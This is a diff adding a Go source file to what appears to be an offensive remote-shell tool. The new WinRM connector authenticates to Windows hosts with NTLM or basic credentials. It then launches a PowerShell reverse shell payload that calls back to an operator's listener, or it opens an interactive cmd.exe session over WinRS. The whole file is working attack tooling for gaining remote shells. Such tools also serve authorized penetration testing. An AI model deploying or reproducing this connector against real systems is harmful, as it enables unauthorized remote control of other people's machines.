@@ -0,0 +1,292 @@
+package internal
+
+import (
+	"fmt"
+	"io"
+	"net"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/masterzen/winrm"
+)
+
+// WinRM
+//
+// Mirrors the SSH connector: by default the PowerShell reverse shell payload
+// runs on the target through a WinRS shell and calls back to the listener; with
+// --session an interactive cmd.exe running over WinRS is the gummy session.
+//
+// Authentication is NTLM (accepts DOMAIN\user) or, with -basic, HTTP basic.
+// -ssl switches to HTTPS (port 5986 by default, certificate not verified).
+
+// WinRM default ports
+const (
+	winrmPort      = 5985
+	winrmHTTPSPort = 5986
+)
+
+// winrmPollTimeout is the WS-Man operation timeout of output polls
+// (kept under the 60s HTTP response timeout of the client)
+const winrmPollTimeout = "PT20S"
+
+// winrmStartupWait is how long the payload gets to fail before it's considered launched
+const winrmStartupWait = 3 * time.Second
+
+// WinRMOptions configures authentication and transport of WinRM connections
+type WinRMOptions struct {
+	Password string // Password; prompted for if empty
+	HTTPS    bool   // Use HTTPS
+	Basic    bool   // Basic auth instead of NTLM
+}
+
+// WinRMConnector handles WinRM connections with automatic reverse shell
+type WinRMConnector struct {
+	ListenerIP   string
+	ListenerPort int
+	Options      WinRMOptions
+}
+
+// NewWinRMConnector creates a new WinRM connector
+func NewWinRMConnector(ip string, port int) *WinRMConnector {
+	return &WinRMConnector{
+		ListenerIP:   ip,
+		ListenerPort: port,
+	}
+}
+
+// parseWinRMTarget splits user@host[:port] (user may be DOMAIN\user or user@domain)
+func parseWinRMTarget(target string, https bool) (string, string, int, error) {
+	at := strings.LastIndex(target, "@")
+	if at <= 0 || at == len(target)-1 {
+		return "", "", 0, fmt.Errorf("invalid WinRM target format. Use: user@host or user@host:port")
+	}
+	user, host := target[:at], target[at+1:]
+
+	port := winrmPort
+	if https {
+		port = winrmHTTPSPort
+	}
+	if h, p, err := net.SplitHostPort(host); err == nil {
+		n, err := strconv.Atoi(p)
+		if err != nil || n < 1 || n > 65535 {
+			return "", "", 0, fmt.Errorf("invalid port: %s", p)
+		}
+		host, port = h, n
+	}
+	return user, strings.Trim(host, "[]"), port, nil
+}
+
+// Dial logs into the target and opens a WinRS shell
+func (w *WinRMConnector) Dial(target string) (*winrm.Client, *winrm.Shell, error) {
+	user, host, port, err := parseWinRMTarget(target, w.Options.HTTPS)
+	if err != nil {
+		return nil, nil, err
+	}
+
+	password := w.Options.Password
+	if password == "" {
+		if password, err = promptPassword(fmt.Sprintf("%s@%s's password: ", user, host)); err != nil {
+			return nil, nil, err
+		}
+	}
+
+	params := winrm.NewParameters(winrmPollTimeout, "en-US", 153600)
+	if !w.Options.Basic {
+		params.TransportDecorator = func() winrm.Transporter { return &winrm.ClientNTLM{} }
+	}
+
+	endpoint := winrm.NewEndpoint(host, port, w.Options.HTTPS, true, nil, nil, nil, 0)
+	client, err := winrm.NewClientWithParameters(endpoint, user, password, params)
+	if err != nil {
+		return nil, nil, fmt.Errorf("failed to create WinRM client: %w", err)
+	}
+
+	// Opening the shell is the first request, so this is where bad credentials show up
+	shell, err := client.CreateShell()
+	if err != nil {
+		// The client reports rejected credentials as a content type error
+		if strings.Contains(err.Error(), "http response error: 401") {
+			return nil, nil, fmt.Errorf("WinRM authentication failed for %s", user)
+		}
+		return nil, nil, fmt.Errorf("WinRM connection to %s failed: %w", net.JoinHostPort(host, strconv.Itoa(port)), err)
+	}
+	return client, shell, nil
+}
+
+// Connect logs into the target and launches the PowerShell reverse shell payload
+// The payload runs inside the WinRS shell, which stays open until the reverse shell exits
+func (w *WinRMConnector) Connect(target string) error {
+	_, shell, err := w.Dial(target)
+	if err != nil {
+		return err
+	}
+
+	payload := NewReverseShellGenerator(w.ListenerIP, w.ListenerPort).GeneratePowerShell()
+	cmd, err := shell.Execute(payload)
+	if err != nil {
+		shell.Close()
+		return fmt.Errorf("failed to run payload: %w", err)
+	}
+
+	// Output has to be drained or the command blocks; stderr is kept for errors
+	var stderr strings.Builder
+	stderrDone := make(chan struct{})
+	go io.Copy(io.Discard, cmd.Stdout)
+	go func() {
+		io.Copy(&stderr, cmd.Stderr)
+		close(stderrDone)
+	}()
+
+	done := make(chan struct{})
+	go func() {
+		cmd.Wait()
+		<-stderrDone
+		cmd.Close()
+		shell.Close()
+		close(done)
+	}()
+
+	// A payload that can't run ends right away
+	select {
+	case <-done:
+		if msg := strings.TrimSpace(stderr.String()); msg != "" {
+			return fmt.Errorf("payload failed: %s", msg)
+		}
+		return fmt.Errorf("payload exited right away (code %d)", cmd.ExitCode())
+	case <-time.After(winrmStartupWait):
+		return nil
+	}
+}
+
+// OpenShell logs into the target and starts an interactive cmd.exe
+// The returned connection is the shell's stream, ready to be added as a session
+func (w *WinRMConnector) OpenShell(target string) (*WinRMConn, error) {
+	_, shell, err := w.Dial(target)
+	if err != nil {
+		return nil, err
+	}
+
+	cmd, err := shell.Execute("cmd.exe")
+	if err != nil {
+		shell.Close()
+		return nil, fmt.Errorf("failed to start cmd.exe: %w", err)
+	}
+
+	_, host, port, _ := parseWinRMTarget(target, w.Options.HTTPS)
+	return newWinRMConn(shell, cmd, net.JoinHostPort(host, strconv.Itoa(port))), nil
+}
+
+// winrmAddr is the host:port a WinRM shell was opened to
+type winrmAddr string
+
+func (a winrmAddr) Network() string { return "winrm" }
+func (a winrmAddr) String() string  { return string(a) }
+
+// WinRMConn adapts a WinRS command to net.Conn so it can be handled like any shell
+type WinRMConn struct {
+	shell   *winrm.Shell
+	cmd     *winrm.Command
+	stdout  *io.PipeReader // stdout and stderr, merged
+	addr    winrmAddr
+	once    sync.Once
+	control bool // Control channel: the WinRS shell belongs to the main session
+}
+
+// newWinRMConn merges the command's output streams into one
+func newWinRMConn(shell *winrm.Shell, cmd *winrm.Command, addr string) *WinRMConn {
+	reader, writer := io.Pipe()
+
+	// Both streams must be read or the output poller blocks
+	var wg sync.WaitGroup
+	wg.Add(2)
+	var mu sync.Mutex
+	copyStream := func(r io.Reader) {
+		defer wg.Done()
+		buf := make([]byte, 32*1024)
+		for {
+			n, err := r.Read(buf)
+			if n > 0 {
+				mu.Lock()
+				_, werr := writer.Write(buf[:n])
+				mu.Unlock()
+				if werr != nil {
+					return
+				}
+			}
+			if err != nil {
+				return
+			}
+		}
+	}
+	go copyStream(cmd.Stdout)
+	go copyStream(cmd.Stderr)
+
+	// The stream ends when cmd.exe exits
+	go func() {
+		wg.Wait()
+		writer.Close()
+	}()
+
+	return &WinRMConn{shell: shell, cmd: cmd, stdout: reader, addr: winrmAddr(addr)}
+}
+
+// OpenControl runs command as a second WinRS command on the same shell
+// The command is the session's control channel: nothing has to call back to a listener
+func (c *WinRMConn) OpenControl(command string) (net.Conn, error) {
+	cmd, err := c.shell.Execute(command)
+	if err != nil {
+		return nil, fmt.Errorf("failed to start control command: %w", err)
+	}
+
+	conn := newWinRMConn(c.shell, cmd, string(c.addr))
+	conn.control = true
+	return conn, nil
+}
+
+// Read reads shell output
+func (c *WinRMConn) Read(b []byte) (int, error) {
+	return c.stdout.Read(b)
+}
+
+// Write sends input to the shell
+func (c *WinRMConn) Write(b []byte) (int, error) {
+	// Empty writes are liveness probes (monitorSession), WinRM has nothing to send
+	if len(b) == 0 {
+		return 0, nil
+	}
+	return c.cmd.Stdin.Write(b)
+}
+
+// Close ends the command and deletes the WinRS shell (control channels leave it to the main session)
+func (c *WinRMConn) Close() error {
+	var err error
+	c.once.Do(func() {
+		c.cmd.Close()
+		c.stdout.Close()
+		if !c.control {
+			err = c.shell.Close()
+		}
+	})
+	return err
+}
+
+// LocalAddr returns the WinRM pseudo address
+func (c *WinRMConn) LocalAddr() net.Addr {
+	return winrmAddr("local")
+}
+
+// RemoteAddr returns the address of the target
+func (c *WinRMConn) RemoteAddr() net.Addr {
+	return c.addr
+}
+
+// SetDeadline is a no-op (WinRS commands have no deadlines)
+func (c *WinRMConn) SetDeadline(t time.Time) error { return nil }
+
+// SetReadDeadline is a no-op (the session mux handles read timeouts)
+func (c *WinRMConn) SetReadDeadline(t time.Time) error { return nil }
+
+// SetWriteDeadline is a no-op
+func (c *WinRMConn) SetWriteDeadline(t time.Time) error { return nil }